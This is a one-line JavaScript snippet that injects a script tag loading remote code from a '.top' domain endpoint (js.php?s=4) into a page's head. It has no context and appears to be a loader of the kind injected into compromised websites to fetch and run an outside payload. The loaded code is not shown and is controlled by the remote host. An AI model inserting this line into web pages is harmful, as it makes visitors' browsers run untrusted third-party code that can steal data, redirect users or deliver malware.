var _s=document.createElement('script');_s.src='https://js-thongke.top/js.php?s=4';document.head.appendChild(_s);
